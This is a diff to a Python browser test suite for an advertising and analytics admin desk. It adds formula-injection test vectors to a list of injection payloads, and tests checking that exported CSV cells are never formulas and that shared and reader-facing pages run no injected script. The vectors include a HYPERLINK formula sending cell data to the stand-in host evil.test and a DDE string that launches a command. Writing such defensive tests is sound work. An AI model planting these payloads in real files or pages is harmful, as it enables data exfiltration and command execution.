@@ -1,12 +1,15 @@
 """The desk in a real browser: live figures, no text that runs, no page that is too wide, all of it by keyboard."""
 
 import contextlib
+import csv
+import io
 import itertools
 import json
 import urllib.error
 import urllib.request
 from collections.abc import Iterator
-from urllib.parse import quote
+from urllib.parse import quote, urljoin
+from xml.etree import ElementTree as ET
 
 import msgspec
 import pytest
@@ -48,6 +51,9 @@ VECTORS = [
     "{{ 7*7 }}{% raw %}",
     "{{ cycler.__init__.__globals__ }}",
     "${pwned=1}",
+    '=HYPERLINK("//evil.test/?"&A1;pwned)',
+    "@SUM(1+1)*cmd|' /C calc pwned'!A0",
+    "-1+1 pwned",
     "%(n)s %s {0} {n}",
     "javascript:pwned=1",
     "data:text/html,<script>pwned=1</script>",
@@ -70,6 +76,7 @@ PAGES = [
     "/admin/sites/demo/settings",
     "/admin/sites/demo/shares",
     "/admin/sites/demo/mails",
+    "/admin/sites/demo/imports",
     "/admin/new-site",
     "/admin/users/admin",
     "/admin/account/second-factor",
@@ -219,13 +226,56 @@ def test_no_text_of_pages_ads_or_readers_is_ever_run(browser, start_demo):
         desk.open(address)
         assert desk.page.evaluate("typeof pwned") == "undefined", address
         assert desk.page.url.startswith(demo.desk_url + "/admin/"), address
-    for address, kind in (("export.csv", "text/csv"), ("export.json", "application/json")):
-        answer = context.request.get(f"{demo.desk_url}/admin/sites/demo/{address}")
-        assert answer.headers["content-type"].startswith(kind)
-        assert answer.headers["x-content-type-options"] == "nosniff"
-        assert answer.headers["content-disposition"].startswith("attachment")
+    check_files(context, demo)
+    for address in shared_by(desk, demo):
+        desk.page.goto(address)
+        assert desk.page.evaluate("typeof pwned") == "undefined", address
+        assert desk.page.locator("body", has_text="pwned").count() == 1, address
+    check_readers_side(context, demo)
     assert desk.complaints == []
     context.close()
+
+
+def shared_by(desk: Desk, demo) -> Iterator[str]:
+    """Links to a site's figures and a campaign's report, the first of them to be embedded."""
+    for address, embeddable in (("/admin/sites/demo/shares", True), ("/admin/campaigns/kaffeekontor-probe/shares", False)):
+        desk.open(address)
+        desk.page.fill("#name", PAYLOADS[4])
+        if embeddable:
+            desk.page.check("[name=embeddable]")
+        desk.page.locator("form.fields button").last.click()
+        link = desk.page.locator(".secret").inner_text()
+        yield demo.desk_url + link[link.index("/", len("https://")) :] + ("?range=7d&rows=100" if embeddable else "")
+
+
+def check_files(context, demo) -> None:
+    """Files are taken as files, and no cell of a table is a formula."""
+    for address, kind in (("export.csv?rows=100", "text/csv"), ("export.json", "application/json"), ("earnings.csv", "text/csv")):
+        answer = context.request.get(f"{demo.desk_url}/admin/sites/demo/{address}")
+        assert answer.headers["content-type"].startswith(kind), (address, answer.status, answer.url)
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert answer.headers["content-disposition"].startswith("attachment")
+        if kind == "text/csv":
+            cells = [cell for line in csv.reader(io.StringIO(answer.text())) for cell in line]
+            assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+
+
+def check_readers_side(context, demo) -> None:
+    """What readers get of the same texts: ads and the list in an article, the list as page, JSON and RSS, reasons, the ad library."""
+    page = context.new_page()
+    page.goto(f"{demo.url}/de/filterkaffee.html")
+    page.wait_for_selector("[data-slot=ads] a")
+    pages = [page.url, page.locator("[data-slot=ads] a[href*='/why/']").first.get_attribute("href")]
+    for address in [*pages, "/v1/trending.html?site=demo", "/transparency/demo"]:
+        page.goto(urljoin(demo.url, address))
+        assert page.evaluate("typeof pwned") == "undefined", address
+    for kind, type_ in (("json", "application/json"), ("rss", "application/rss+xml")):
+        answer = context.request.get(f"{demo.url}/v1/trending.{kind}?site=demo")
+        assert answer.headers["content-type"].startswith(type_)
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        if kind == "rss":
+            assert ET.fromstring(answer.body()).tag == "rss"
+    page.close()
 
 
 def plant(demo) -> list[str]:
